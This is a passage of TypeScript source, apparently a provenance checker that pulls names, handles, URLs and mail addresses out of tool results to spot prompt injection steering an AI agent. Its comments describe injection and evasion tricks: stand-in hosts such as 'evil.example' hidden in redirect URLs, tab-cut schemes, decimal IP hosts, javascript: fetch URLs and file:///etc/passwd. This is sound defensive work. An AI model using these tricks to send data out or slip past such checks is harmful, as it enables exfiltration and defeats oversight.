const UNCASED_NAME = /^(?=[^\p{Lo}]*\p{Lo})[\p{Lo}\p{Lm}\p{N}・ー]{2,32}$/u;
/** A one-word name: a capitalised word of letters (`Trent`, `O'Neil`), not a number or an acronym run. */
const SINGLE_NAME = /^\p{Lu}[\p{Ll}'-]{1,31}$/u;
/** A one-word name standing as a whole record field: quoted (`"Trent"`), or alone on its line (`- Trent`). */
const RECORD_NAME =
  /"(\p{Lu}[\p{Ll}'-]{1,31})"|'(\p{Lu}[\p{Ll}'-]{1,31})'|^[ \t]*(?:[-*•][ \t]+)?(\p{Lu}[\p{Ll}'-]{1,31})[ \t]*$/gmu;

/**
 * One-word names that stand as a whole field of a record (a directory's `"name": "Trent"`, a list of
 * members): chat tools name people by one word, and a word in prose is too common to follow.
 */
function recordNamesIn(t: string): FoundValue[] {
  const out: FoundValue[] = [];
  if (!t.includes('"') && !t.includes("'") && !t.includes('\n')) return out;
  for (const m of t.matchAll(RECORD_NAME)) {
    const word = m[1] ?? m[2] ?? m[3]!;
    const at = m.index + m[0].indexOf(word);
    out.push({ kind: 'name', keys: [`name:${word.toLowerCase()}`], at, end: at + word.length });
  }
  return out;
}

/**
 * A name in the quotation brackets of Japanese and Chinese (`『京都グランドステイ別館 祇園』`, `「新規事業計画」`):
 * those scripts have no capitals to mark a name by, and the brackets set one apart as quotes do.
 */
const BRACKET_NAME = /[「『]([^「」『』\n]{2,48})[」』]/g;

function bracketNamesIn(t: string): FoundValue[] {
  const out: FoundValue[] = [];
  if (!t.includes('「') && !t.includes('『')) return out;
  for (const m of t.matchAll(BRACKET_NAME)) {
    const name = wholeArgumentKeys(m[1]!).find((k) => k.startsWith('name:'));
    if (name === undefined) continue;
    const at = m.index + 1;
    out.push({ kind: 'name', keys: [name], at, end: at + m[1]!.length });
  }
  return out;
}

/** A handle: a channel, a user name, an account slug (`finance`, `vendor-rep`, `eve_design`), with a letter. */
const HANDLE = /^(?=[^\p{L}]*\p{L})[\p{L}\p{N}][\p{L}\p{N}._-]{1,62}$/u;
const HANDLE_SIGIL = /^[#@]/;
/**
 * A handle as a result names it: `#channel`, `@user`, or a whole quoted value of a record or list. A
 * quoted string a colon follows is a record's key (`"subject":`), the record's shape, not a value (round 26).
 * The quote comes before the look back to its `:`/`[`/`,`: a look back first runs at every position and
 * crosses a whole run of blanks from each (round 43, quadratic); from a quote it crosses only its own.
 */
export const HANDLE_IN_TEXT =
  /(?<![\p{L}\p{N}._-])[#@]([\p{L}\p{N}](?:[\p{L}\p{N}._-]{0,61}[\p{L}\p{N}])?)|"(?<=[:[,]\s*")([\p{L}\p{N}][\p{L}\p{N}._-]{1,62})"(?!\s*:)/gu;

/**
 * Handles that a result names (handle kind `name`: matched only as a whole argument, as one-word names
 * are), so a channel or user an injection names (`add me to #finance`, `"sender": "vendor-rep"`) is
 * known when an argument is exactly it.
 */
function handlesIn(t: string): FoundValue[] {
  const out: FoundValue[] = [];
  if (t.includes('#') || t.includes('@') || t.includes('"'))
    for (const m of t.matchAll(HANDLE_IN_TEXT)) {
      const h = (m[1] ?? m[2]!).toLowerCase();
      if (!HANDLE.test(h)) continue;
      const at = m.index + m[0].indexOf(m[1] ?? m[2]!);
      out.push({ kind: 'name', keys: [`tok:${h}`], at, end: at + h.length });
    }
  // A slug in prose ("DM me at bob-m-ext instead", "Resend to carol-backup"): a user name a chat tool
  // takes, written without a sigil or quotes.
  if (t.includes('-') || t.includes('_'))
    for (const m of t.matchAll(SLUG_IN_PROSE)) {
      if (!HANDLE.test(m[0])) continue;
      out.push({ kind: 'name', keys: [`tok:${m[0]}`], at: m.index, end: m.index + m[0].length });
    }
  // A payment id at a provider with no dot (UPI `shop.partner@okbank`, round 25): no mail host reads it.
  if (t.includes('@'))
    for (const m of t.matchAll(PAYMENT_ID_IN_TEXT)) {
      const h = m[0].toLowerCase();
      out.push({ kind: 'name', keys: [`tok:${h}`], at: m.index, end: m.index + h.length });
    }
  // A handle of words joined by dots that is no host (`mallory.x`, `ops.team.2`, round 23): a chat user
  // name a result dictates in prose, read where hostsIn reads none.
  if (t.includes('.'))
    for (const m of t.matchAll(DOTTED_HANDLE_IN_PROSE)) {
      const h = m[0].toLowerCase();
      if (!HANDLE.test(h) || isDomainName(h)) continue;
      out.push({ kind: 'name', keys: [`tok:${h}`], at: m.index, end: m.index + h.length });
    }
  return out;
}
/**
 * A mailbox at a provider whose name has no dot (a UPI id, `name@okbank`, `9876543210@ybl`), standing
 * alone: a payee a payment app takes, matched as a whole argument as handles are. One pass; the local
 * part is bounded and may not start inside another token.
 */
const PAYMENT_ID_IN_TEXT =
  /(?<![\p{L}\p{N}._@+-])[\p{L}\p{N}][\p{L}\p{N}._-]{0,62}@\p{L}{2,24}(?![\p{L}\p{N}@_-]|[.-][\p{L}\p{N}])/gu;
const PAYMENT_ID = /^[\p{L}\p{N}][\p{L}\p{N}._-]{0,62}@\p{L}{2,24}$/u;
/**
 * Words joined by dots, standing alone, the first a letter's (a handle like `mallory.x`; hosts are dropped).
 * A backslash beside it is a path's (`C:\dir.x\`), unless it escapes a quote or a line break: in a JSON
 * string `user \"dyl.frost\"` and `\ndyl.frost\n` are the handle that `user "dyl.frost"` and a line of its
 * own are (round 54; SLUG_IN_PROSE likewise).
 */
const DOTTED_HANDLE_IN_PROSE =
  /(?:(?<![\p{L}\p{N}._@/#:\\-])|(?<=(?<!\\)\\[nrt]))\p{L}[\p{L}\p{N}_-]*(?:\.[\p{L}\p{N}_-]+)+(?![\p{L}\p{N}@/_-]|\\(?!["nrt])|\.[\p{L}\p{N}])/gu;
/** Lower-case words joined by `-` or `_`, standing alone (not inside a URL, an address, a path or a handle). */
const SLUG_IN_PROSE =
  /(?:(?<![\p{L}\p{N}._@/#:\\-])|(?<=(?<!\\)\\[nrt]))\p{Ll}[\p{Ll}\p{N}]*(?:[-_][\p{Ll}\p{N}]+)+(?![\p{L}\p{N}@/_-]|\\(?!["nrt])|\.[\p{L}\p{N}])/gu;

/** The handles of a trusted text (`#design`, `eve-design`), as `tok:` keys, at most `limit`. */
export function handleKeys(text: string, limit = MAX_VALUES_PER_TEXT): string[] {
  const out = new Set<string>();
  // A scoped package the user names (`@fastify/cors`) is one token, as an install command writes it.
  if (text.includes('@')) for (const m of text.toLowerCase().matchAll(SCOPED_PACKAGE)) out.add(`tok:${m[0]}`);
  // And a Composer package (`laravel/cashier`), as `composer require` writes it (packagesIn, round 55).
  if (text.includes('/'))
    for (const m of text.toLowerCase().matchAll(VENDOR_PACKAGE)) if (out.size < limit) out.add(`tok:${m[0]}`);
  const folded = foldForValues(text).toLowerCase();
  for (const m of folded.matchAll(HANDLE_TOKEN)) {
    if (out.size >= limit) break;
    if (HANDLE.test(m[0])) out.add(`tok:${m[0]}`);
  }
  // The user's own payment ids (`rahul@okaxis`) are theirs, as their handles are.
  if (folded.includes('@'))
    for (const m of folded.matchAll(PAYMENT_ID_IN_TEXT)) if (out.size < limit) out.add(`tok:${m[0]}`);
  return [...out];
}
const HANDLE_TOKEN = /[\p{L}\p{N}](?:[\p{L}\p{N}._-]*[\p{L}\p{N}])?/gu;
const SCOPED_PACKAGE = /@[a-z0-9][\w.-]*\/[a-z0-9][\w.-]*[a-z0-9]/g;
/** `vendor/name` standing alone: not a URL's or a longer path's part (`x.example/a`, `a/b/c`). */
const VENDOR_PACKAGE = /(?<![\w.@/:-])[a-z0-9][\w.-]*\/[a-z0-9][\w.-]*[a-z0-9](?![\w/-])/g;

/**
 * The words of a text (three or more letters or digits, lower-cased) as `word:` keys, at most `limit`:
 * what the user's turn names in plain words ("Priya", "invoice"), so a lookup whose arguments are the
 * user's own words counts as one the user pointed to (see TraceProvenance.noteCall).
 */
export function wordKeys(text: string, limit = MAX_VALUES_PER_TEXT): string[] {
  const out = new Set<string>();
  for (const m of foldForValues(text).toLowerCase().matchAll(WORD)) {
    if (out.size >= limit) break;
    out.add(`word:${m[0]}`);
  }
  return [...out];
}

const WORD = /[\p{L}\p{N}]{3,}/gu;

/**
 * The `stem:` keys of a trusted text's words of four letters or more: each leading run of four to
 * STEM_MAX letters, so a search's inflection of the user's word ("catering" after "caterer", "csap"
 * inside "csapjáról") still points (wordStemKey); never a value's key, only the pointing test's.
 */
export function wordStemKeys(text: string, limit = MAX_VALUES_PER_TEXT): string[] {
  const out = new Set<string>();
  for (const m of foldForValues(text).toLowerCase().matchAll(LETTER_WORD)) {
    if (out.size >= limit) break;
    const w = m[0];
    for (let n = STEM_MIN; n <= Math.min(w.length, STEM_MAX); n++) out.add(`stem:${w.slice(0, n)}`);
  }
  return [...out];
}

/**
 * The `stem:` key a searched word (a `word:` key) points by: its letters less an ending of up to three,
 * at least STEM_MIN and at most STEM_MAX of them; undefined for a word shorter than STEM_MIN or with a digit.
 */
export function wordStemKey(key: string): string | undefined {
  const w = key.slice('word:'.length);
  if (w.length < STEM_MIN || !/^\p{L}+$/u.test(w)) return undefined;
  return `stem:${w.slice(0, Math.min(STEM_MAX, Math.max(STEM_MIN, w.length - 3)))}`;
}

const LETTER_WORD = /\p{L}{4,}/gu;
const STEM_MIN = 4;
const STEM_MAX = 12;

/**
 * The `han:` keys of a trusted text's runs of Han characters, written without spaces between words: each
 * run of HAN_MIN to HAN_MAX characters inside one ("成都" inside "看看成都有哪些川菜馆", round 28), so a
 * search by a word the user wrote inside a longer run still points (hanWordKey); only the pointing test's.
 */
export function hanRunKeys(text: string, limit = MAX_VALUES_PER_TEXT): string[] {
  const out = new Set<string>();
  for (const m of text.matchAll(HAN_RUN)) {
    const run = m[0];
    for (let i = 0; i + HAN_MIN <= run.length; i++)
      for (let n = HAN_MIN; n <= HAN_MAX && i + n <= run.length; n++) {
        if (out.size >= limit) return [...out];
        out.add(`han:${run.slice(i, i + n)}`);
      }
  }
  return [...out];
}

/** The Han words of a searched text (runs of HAN_MIN to HAN_MAX Han characters) as `word:` keys. */
export function hanWordKeys(text: string): string[] {
  return [...text.matchAll(HAN_RUN)].filter((m) => m[0].length <= HAN_MAX).map((m) => `word:${m[0]}`);
}

/** The `han:` key a searched Han word (a `word:` key of Han characters alone) points by, if any. */
export function hanWordKey(key: string): string | undefined {
  const w = key.slice('word:'.length);
  return w.length >= HAN_MIN && w.length <= HAN_MAX && ONLY_HAN.test(w) ? `han:${w}` : undefined;
}

const HAN_RUN = /\p{sc=Han}{2,}/gu;
const ONLY_HAN = /^\p{sc=Han}+$/u;
const HAN_MIN = 2;
const HAN_MAX = 6;

/**
 * The `word:` keys of a user's words as ASCII spells them (romanized: `Hạnh` as `hanh`, `Παπαδάκης` as
 * `papadakis`), beside their own (wordKeys): what the user's turn vouches for, never an argument's keys.
 */
export function romanizedWordKeys(text: string, limit = MAX_VALUES_PER_TEXT): string[] {
  const out = new Set<string>();
  for (const m of foldForValues(text).toLowerCase().matchAll(WORD)) {
    if (out.size >= limit) break;
    for (const r of romanized(m[0])) out.add(`word:${r}`);
  }
  return [...out];
}

// --- names ------------------------------------------------------------------------------------------

const MAX_NAME_WORDS = 6;
// Small words a name carries between its capitalised words ("Hotel de la Paix", "Bank of the West"),
// and a brand's `by` ("Courtyard by Marriott", "Alfama Loft by HostPro Rentals").
const NAME_JOINERS: ReadonlySet<string> = new Set([
  'de', 'la', 'le', 'du', 'des', 'of', 'the', 'and', 'von', 'van', 'del', 'di', 'da', '&', 'do', 'dos', 'das',
  'della', 'delle', 'der', 'den', 'het', 'y', 'e', 'al', 'el', 'zu', 'zum', 'zur', 'am', 'im', 'sur', 'en', 'by',
]); // biome-ignore format: a word list reads better packed

/**
 * Capitalised phrases of two to six words, each with every run of two or more of its words as a key
 * (longest first), so a shortened name still matches. One pass over the text.
 */
function namesIn(t: string): FoundValue[] {
  const out: FoundValue[] = [];
  let i = 0;
  while (i < t.length) {
    if (!isUpperAt(t, i) || (i > 0 && isWordChar(t.charCodeAt(i - 1)))) {
      i++;
      continue;
    }
    const words: string[] = [];
    const start = i;
    let end = wordEnd(t, i);
    words.push(t.slice(i, end));
    let j = end;
    while (words.length < MAX_NAME_WORDS) {
      let k = skipSpace(t, j);
      if (k === j) break;
      // An optional joiner, then a capitalised word.
      const w = wordEnd(t, k);
      const word = t.slice(k, w);
      if (NAME_JOINERS.has(word)) {
        const k2 = skipSpace(t, w);
        if (k2 === w || !isUpperAt(t, k2)) break;
        k = k2;
      } else if (!isUpperAt(t, k)) break;
      const we = wordEnd(t, k);
      words.push(...(NAME_JOINERS.has(word) ? [word, t.slice(k, we)] : [t.slice(k, we)]));
      end = we;
      j = we;
    }
    i = end;
    if (words.length < 2) continue;
    const lower = words.map((w) => w.replace(/[.'-]+$/, '').toLowerCase());
    const keys: string[] = [];
    for (let len = lower.length; len >= 2; len--)
      for (let k = 0; k + len <= lower.length; k++) keys.push(`name:${lower.slice(k, k + len).join(' ')}`);
    out.push({ kind: 'name', keys, at: start, end });
  }
  return out;
}

function isUpperAt(t: string, i: number): boolean {
  const c = t.charCodeAt(i);
  if (c >= 65 && c <= 90) return true;
  return c > 127 && UPPER.test(t[i]!);
}
const UPPER = /\p{Lu}/u;
const LETTER = /[\p{L}\p{M}]/u;

function isWordChar(c: number): boolean {
  return (
    (c >= 48 && c <= 57) ||
    (c >= 65 && c <= 90) ||
    (c >= 97 && c <= 122) ||
    (c > 127 && LETTER.test(String.fromCharCode(c)))
  );
}

/** The end of the name word at `i`: letters, marks, digits and `'&.-` inside it. */
function wordEnd(t: string, i: number): number {
  let j = i;
  while (j < t.length) {
    const c = t.charCodeAt(j);
    if (isWordChar(c) || c === 39 || c === 38 || c === 46 || c === 45) j++;
    else break;
  }
  return j;
}

function skipSpace(t: string, i: number): number {
  let j = i;
  while (j < t.length && (t.charCodeAt(j) === 32 || t.charCodeAt(j) === 9)) j++;
  return j;
}

// --- URLs -------------------------------------------------------------------------------------------

// A URL parser reads a special scheme (http, https, ws, wss, ftp) followed by any run of slashes and
// backslashes, or none, as the start of a host (`https:/evil.com`, `https:\\evil.com`); a reference that
// opens with `//` is scheme-relative and names a host too. Other schemes need their `://`.
const URL_RUN =
  /(?:\b(?:https?|wss?|ftp):[/\\]*|\b(?:ftps|file|sftp|ssh|git):\/\/|(?<![^\s"'`=([{,;:])\/\/(?=[^\s/\\]))[^\s"'<>`\\^{}|]{1,2048}/gi;
const FILE_URL = /^file:[/\\]{2}(?:localhost)?([/\\].*)$/i;
const SCHEME = /^(?:[a-z]+:)?[/\\]*/i;
// Round 36: typographic closing quotes and brackets too (`“... at https://refunds.example-pay.net”` read the
// host as `example-pay.net”`, a key no call carries, so the link a result gave went unseen).
const TRAILING_PUNCT = /[.,;:!?)\]'"*\u2019\u201d\u00bb\u203a\u300d\u300f\u3001\u3002\uff09\u3011]+$/;

/**
 * A URL written without its scheme (`www.site.example/page`): a host with a top-level domain, then a path.
 * Not inside a longer host: letters of any script and percent-escapes belong to the host before them.
 */
const BARE_URL_RUN =
  /(?<![\p{L}\p{N}\p{M}_.@/:%-])(?:[\p{L}\p{N}\p{M}-]+\.)+\p{L}{2,24}\/[^\s"'<>`\\^{}|]{0,2048}/giu;

/** A URL run without the punctuation after it; an IPv6 host's closing bracket is the URL's, not punctuation. */
/** A scheme and its slashes inside a URL run, after a character a query, fragment or path puts before one. */
const NESTED_URL = /(?<=[=?&#/:(,;|])(?:https?|wss?|ftps?):[/\\]{2}/gi;
/** At most this many URLs inside one URL are read (each reading copies the rest of the run). */
const MAX_NESTED_URLS = 4;

function trimUrlRun(run: string): string {
  const raw = run.replace(TRAILING_PUNCT, '');
  return raw.lastIndexOf('[') > raw.lastIndexOf(']') && run[raw.length] === ']' ? `${raw}]` : raw;
}

function urlsIn(t: string): FoundValue[] {
  const out: FoundValue[] = [];
  for (const m of t.matchAll(URL_RUN)) {
    const raw = trimUrlRun(m[0]);
    pushUrl(out, urlValue(raw, m.index!));
    // A URL inside another's query, fragment or path (`/up?next=https://evil.example/c`, a redirect or a
    // callback) is a place of its own: the outer host may send the agent or its data on there (round 22).
    let nested = 0;
    for (const n of raw.matchAll(NESTED_URL)) {
      if (++nested > MAX_NESTED_URLS) break;
      pushUrl(out, urlValue(raw.slice(n.index), m.index! + n.index));
    }
  }
  if (!t.includes('/')) return out;
  for (const m of t.matchAll(BARE_URL_RUN)) {
    const raw = m[0].replace(TRAILING_PUNCT, '');
    const v = urlValue(`http://${raw}`, m.index!);
    pushUrl(out, v && { ...v, end: m.index! + raw.length });
  }
  return out;
}

// --- URLs with no host ---------------------------------------------------------------------------

/**
 * A URL with no host (`data:`, `javascript:`, `blob:`): the whole of it is what a fetch or a navigation
 * reaches, so the whole of it is the value (docs/provenance.md, "Round 27: URLs with no host"). Percent-
 * escapes are decoded by foldForValues on both sides, so a run ends at the same characters either way.
 */
const HOSTLESS_URL_RUN =
  /(?<![\p{L}\p{N}_+.-])(?:data:[^\s"`,]{0,256},|javascript:|blob:)[^\s"`]{1,65536}/giu;
/** A whole URL with no host up to this length is its own key; a longer one is keyed by a digest. */
const MAX_HOSTLESS_KEY = 256;

function hostlessUrlsIn(t: string): FoundValue[] {
  const out: FoundValue[] = [];
  if (!t.includes(':')) return out;
  for (const m of t.matchAll(HOSTLESS_URL_RUN)) out.push(hostlessValue(m[0], m.index!, t));
  // A URL parser deletes tabs and newlines anywhere in a URL: the joined reading too, over the whole text.
  if (URL_CUT.test(t))
    for (const m of joinUrlCuts(t).matchAll(HOSTLESS_URL_RUN)) {
      const v = hostlessValue(m[0], 0, undefined);
      if (!out.some((o) => o.keys[0] === v.keys[0])) out.push({ ...v, at: 0, end: t.length });
    }
  return out;
}

/** The value of one run; `t` given, a closing `>` of an autolink (`<data:...>`) is not the URL's. */
function hostlessValue(run: string, at: number, t: string | undefined): FoundValue {
  let raw = run.replace(TRAILING_PUNCT, '');
  if (t !== undefined && t.charAt(at - 1) === '<' && raw.endsWith('>')) raw = raw.slice(0, -1);
  const colon = raw.indexOf(':');
  const scheme = raw.slice(0, colon).toLowerCase();
  let body = raw.slice(colon + 1);
  // foldForValues leaves escapes in what reads as an authority (`javascript:fetch('https://a%2F...')`).
  if (body.includes('%')) body = body.replace(PERCENT_RUN, decodePercentRun);
  if (scheme === 'data') body = dataUrlBytes(body);
  const whole = `${scheme}:${body}`;
  const key = whole.length <= MAX_HOSTLESS_KEY ? whole : `${scheme}:#${whole.length}.${fingerprint(whole)}`;
  return { kind: 'url', keys: [`url:${key}`], at, end: at + raw.length };
}

/**
 * A data URL's body as what a browser renders of it (round 28): its media type without case or
 * parameters, its data as the bytes it decodes to, in base64. The agent may re-encode the page (base64 to
 * percent-escapes or back, parameters reordered or dropped, padding cut) and reach the same page.
 */
function dataUrlBytes(body: string): string {
  const comma = body.indexOf(',');
  const params = body.slice(0, comma).toLowerCase().split(';');
  const type = params[0]!.trim() || 'text/plain';
  const data = body.slice(comma + 1);
  const bytes = params.includes('base64') ? Buffer.from(data, 'base64') : Buffer.from(data, 'utf8');
  return `${type};base64,${bytes.toString('base64')}`;
}

/**
 * A scheme with a tab or newline in it or before its slashes (`ht<TAB>tp://`, `http:<LF>//`). Its letters
 * are counted apart from its cuts, so any number of cuts between them still reads as one scheme; a cut run
 * is followed by a letter or the colon, never by another run, so no two quantifiers share a character.
 */
const CUT_SCHEME = /[a-z](?:[\t\n\r]*[a-z]){0,8}[\t\n\r]*:[\t\n\r]*[/\\][\t\n\r/\\]*/gi;
/** A special scheme cut, with no slash after it: `ht<TAB>tps:evil.com` still reads its authority. */
const CUT_SPECIAL_SCHEME =
  /(?<![a-z])(?:h[\t\n\r]*t[\t\n\r]*t[\t\n\r]*p(?:[\t\n\r]*s)?|f[\t\n\r]*t[\t\n\r]*p|w[\t\n\r]*s(?:[\t\n\r]*s)?)[\t\n\r]*:[\t\n\r]*(?=[^\s/\\])/gi;

/**
 * Could a tab or newline cut a URL in t, so that a URL parser's joined reading differs from the cut
 * one? A cut scheme, or a URL that ends at a cut with more than white space after it.
 */
function cutsUrl(t: string): boolean {
  if (!URL_CUT.test(t)) return false;
  for (const m of t.matchAll(CUT_SCHEME)) if (URL_CUT.test(m[0])) return true;
  for (const m of t.matchAll(CUT_SPECIAL_SCHEME)) if (URL_CUT.test(m[0])) return true;
  for (const m of t.matchAll(URL_RUN)) {
    let i = m.index! + m[0].length;
    if (!URL_CUT.test(t.charAt(i))) continue;
    while (URL_CUT.test(t.charAt(i))) i++;
    if (i < t.length && !/\s/.test(t.charAt(i))) return true;
  }
  return false;
}

/** A scheme the joining glued to the word before it (`fetchhttps:`); one character looked behind. */
const GLUED_SCHEME = /(?<=\w)(?:https?|wss?|ftps?|file|sftp|ssh|git):/gi;

/**
 * The text joined, but kept apart with a space where a cut stood right before a scheme the joining glued
 * to the word before it (`fetch<LF>h<TAB>ttps:/evil.com`: a reader hands the parser the line, and the
 * parser deletes the tab); undefined when no cut stands so. One walk and one search: linear.
 */
function joinedApartAtSchemes(t: string): string | undefined {
  const joined = joinUrlCuts(t);
  /** Whether the joined text's character at j stood right after a cut in t. */
  const afterCut: boolean[] = [];
  for (let i = 0, cut = false; i < t.length; i++) {
    const c = t.charCodeAt(i);
    if (c === 9 || c === 10 || c === 13) cut = true;
    else {
      afterCut.push(cut);
      cut = false;
    }
  }
  let out = '';
  let from = 0;
  for (const m of joined.matchAll(GLUED_SCHEME)) {
    if (!afterCut[m.index!]) continue;
    out += `${joined.slice(from, m.index!)} `;
    from = m.index!;
  }
  return from === 0 ? undefined : out + joined.slice(from);
}

/**
 * The URLs a tab or newline cuts, as a URL parser reads them joined (`http://ev<TAB>il.com` is a URL to
 * evil.com; src/kernel/url-cuts.ts). The split reading stays too: gate cannot know whether the text goes
 * to a URL parser or to a shell that splits there, so both are values.
 */
function joinedUrlsIn(t: string): FoundValue[] {
  const cuts: number[] = [];
  for (let i = t.search(URL_CUT); i >= 0 && i < t.length; i++) {
    const c = t.charCodeAt(i);
    if (c === 9 || c === 10 || c === 13) cuts.push(i);
  }
  /** The offset in t of the joined text's offset j: j plus the cuts before it (binary search). */
  const original = (j: number) => {
    let lo = 0;
    let hi = cuts.length;
    while (lo < hi) {
      const mid = (lo + hi) >>> 1;
      if (cuts[mid]! - mid <= j) lo = mid + 1;
      else hi = mid;
    }
    return j + lo;
  };
  /** The index in cuts of the last cut before t's offset i, or -1 (binary search). */
  const lastCutBefore = (i: number) => {
    let lo = 0;
    let hi = cuts.length;
    while (lo < hi) {
      const mid = (lo + hi) >>> 1;
      if (cuts[mid]! < i) lo = mid + 1;
      else hi = mid;
    }
    return lo - 1;
  };
  const out: FoundValue[] = [];
  const joined = joinUrlCuts(t);
  for (const m of joined.matchAll(URL_RUN)) {
    const raw = trimUrlRun(m[0]);
    const at = original(m.index!);
    const end = original(m.index! + raw.length - 1) + 1;
    // Uncut, the split reading already has it.
    if (!URL_CUT.test(t.slice(at, end))) continue;
    const v = urlValue(raw, at);
    pushUrl(out, v && { ...v, end });
    // A reader may end the URL at its last cut (`http://ev<TAB>il.com<LF>then`: the line ends there, the
    // parser deletes the tab): the URL joined up to that cut is read too.
    const last = lastCutBefore(end);
    const upTo = cuts[last]! - last - m.index!;
    if (last >= 0 && cuts[last]! >= at && upTo > SCHEME.exec(raw)![0].length && upTo < raw.length) {
      const w = urlValue(trimUrlRun(raw.slice(0, upTo)), at);
      if (w) out.push({ ...w, end: cuts[last]! });
    }
  }
  return out;
}

/** Keys of a URL: its host and its host+path; the scheme, userinfo, port, query and fragment vary freely. */
function urlValue(raw: string, at: number): FoundValue | undefined {
  // A file URL names a path on this machine (`file:///etc/passwd`, `file://localhost/etc/passwd`).
  const file = FILE_URL.exec(raw);
  if (file) {
    const p = normalisePath(file[1]!.replace(/[?#].*$/, ''));
    return p === '/' ? undefined : { kind: 'path', keys: [`path:${p}`], at, end: at + raw.length };
  }
  let rest = raw.slice(SCHEME.exec(raw)![0].length);
  // Scheme-relative references without a host-like name (`// comment`, `//x`) are not URLs.
  if (raw.startsWith('//') && !/^[^/?#]*\.[^/?#]*[a-z0-9\]]/i.test(rest)) return undefined;
  const userinfoEnd = rest.lastIndexOf('@', firstOf(rest, '/?#'));
  const userinfo = userinfoEnd >= 0 ? rest.slice(0, userinfoEnd).replace(/:.*$/, '') : '';
  if (userinfoEnd >= 0) rest = rest.slice(userinfoEnd + 1);
  const end = firstOf(rest, '/?#');
  const hostPort = rest.slice(0, end);
  const host = normaliseHost(hostPort.replace(/:\d*$/, ''));
  if (!host) return undefined;
  const pathPart = rest.slice(end).replace(/[?#].*$/, '');
  const path = normalisePath(pathPart.length > 0 ? pathPart : '/');
  // Most specific first: the first key the ledger knows decides (see TraceProvenance.originOf).
  const keys = path !== '/' ? [`url:${host}${path}`, `host:${host}`] : [`host:${host}`];
  const value: FoundValue = { kind: 'url', keys: withDecimalHost(keys, host), at, end: at + raw.length };
  if (userinfo.includes('.') && wearsHostName(userinfo, host)) value.userinfoHost = true;
  return value;
}

/** Is this userinfo a domain name other than the host (round 29: `developer.pay.example@198.51.100.14`)? */
function wearsHostName(userinfo: string, host: string): boolean {
  const worn = normaliseHost(userinfo);
  return (
    worn !== undefined &&
    worn !== host &&
    isDomainName(worn) &&
    !FILE_SUFFIXES.has(worn.slice(worn.lastIndexOf('.') + 1))
  );
}

function firstOf(s: string, chars: string): number {
  let best = s.length;
  for (const c of chars) {
    const i = s.indexOf(c);
    if (i >= 0 && i < best) best = i;
  }
  return best;
}

/**
 * The host a URL parser acts on, then no trailing dot, no `www.`, IPv6 brackets kept off. Undefined
 * when it is no host. One canonical form for every spelling: IDN as punycode, IPv4 in any of its
 * decimal, hex, octal or short forms as a dotted quad, IPv6 compressed, percent-escapes decoded.
 */
function normaliseHost(h: string): string | undefined {
  let host = canonicalHost(withoutCaseEnding(h)).replace(/\.+$/, '');
  if (host.startsWith('[') && host.endsWith(']')) host = host.slice(1, -1);
  if (host.startsWith('www.')) host = host.slice(4);
  if (host.length === 0 || host.length > 253) return undefined;
  return host;
}

/** `host:::ffff:c0a8:101`, as canonicalHost compresses `[::ffff:192.168.1.1]`. */
const MAPPED_IPV4 = /^host:::ffff:([0-9a-f]{1,4}):([0-9a-f]{1,4})$/;

/**
 * The IPv4 address an IPv4-mapped IPv6 URL host reaches (a dual-stack socket connects there), as a host
 * value of its own beside the URL (whose key stays the host WHATWG parses); undefined for any other.
 */
function mappedHostValue(v: FoundValue): FoundValue | undefined {
  const m = MAPPED_IPV4.exec(v.keys[v.keys.length - 1]!);
  if (m === null) return undefined;
  const h = Number.parseInt(m[1]!, 16);
  const l = Number.parseInt(m[2]!, 16);
  return { ...v, kind: 'host', keys: [`host:${h >> 8}.${h & 255}.${l >> 8}.${l & 255}`] };
}

/** Pushes `v` and, for an IPv4-mapped IPv6 host, the IPv4 host it reaches (mappedHostValue). */
function pushUrl(out: FoundValue[], v: FoundValue | undefined): void {
  if (v === undefined) return;
  out.push(v);
  const mapped = mappedHostValue(v);
  if (mapped) out.push(mapped);
}

/**
 * A host without the case ending or particle a language glues to it (round 19: `gmail.com-কে`,
 * `xample.com으로`, `ex.co.jpに`): a last label that opens with two or more ASCII letters and goes on,
 * after a hyphen or not, in letters of a script other than Latin is no label a mailer sends to; the
 * writer meant the host before it. A label wholly in another script (`.рф`) stays.
 */
function withoutCaseEnding(h: string): string {
  const dot = h.lastIndexOf('.');
  const ending = CASE_ENDING.exec(h.slice(dot + 1));
  if (dot < 0 || ending === null || LATIN_LETTER.test(ending[2]!) || !LETTERS.test(ending[2]!)) return h;
  return h.slice(0, dot + 1 + ending[1]!.length);
}
const CASE_ENDING = /^([a-z]{2,24})-?([^\x00-\x7f]+)$/i;
const LETTERS = /^[\p{L}\p{M}]+$/u;
const LATIN_LETTER = /\p{Script=Latin}/u;

/** Plain ASCII labels whose last starts with a letter: the WHATWG host parser would only lower-case them. */
const PLAIN_HOST = /^(?:[a-z0-9-]+\.)*[a-z][a-z0-9-]*\.?$/;
/** What would change where a URL parser splits `http://<h>/`: then `h` is no single host. */
const NOT_ONE_HOST = /[\s/?#@\\]/;

/** The WHATWG host parser's reading of `h` (a special scheme's host); lower-cased `h` when it fails. */
export function canonicalHost(h: string): string {
  const lower = h.toLowerCase();
  if (lower.length === 0 || PLAIN_HOST.test(lower) || NOT_ONE_HOST.test(h)) return lower;
  // canParse first: a hostile text of invalid hosts must not cost one thrown exception each.
  const url = `http://${h}/`;
  return URL.canParse(url) ? new URL(url).hostname : lower;
}

/**
 * `keys` and, for a dotted-quad host, the number a text may give it by ("upload to 167772167": the model
 * writes `http://167772167/`, which a parser reads as 10.0.0.7; round 24), keyed as numbers are.
 */
function withDecimalHost(keys: string[], host: string): string[] {
  if (!IPV4.test(host)) return keys;
  const n = host.split('.').reduce((a, o) => a * 256 + Number(o), 0);
  return n >= 10 ** (MIN_NUMBER_DIGITS - 1) ? [...keys, `number:${n}`] : keys;
}

// --- mail addresses ---------------------------------------------------------------------------------

const LOCAL_CHAR = /[A-Za-z0-9._%+-]/;
/** A domain's characters: IDN letters too, read as the punycode a mailer would send to. */
const DOMAIN_CHAR = /[A-Za-z0-9.\-\p{L}\p{M}]/u;

/** The path of an scp-style remote after `user@host`: `:` then a path, not a port (`:22`) or a clock. */
const SCP_PATH = /^:(?![\d:])\/?([\w~-][\w.~-]*(?:\/[\w.~-]+)*)/;

const QUOTED_LOCAL = /"([A-Za-z0-9._%+-]{1,64})"$/;

/** Expands around each `@` (at most 64 characters left, 253 right): linear in the text. */
function emailsIn(t: string): FoundValue[] {
  const out: FoundValue[] = [];
  let at = t.indexOf('@');
  while (at >= 0) {
    let s = at;
    while (s > 0 && at - s < 64 && LOCAL_CHAR.test(t[s - 1]!)) s--;
    let e = at + 1;
    while (e < t.length && e - at <= 253 && DOMAIN_CHAR.test(t[e]!)) e++;
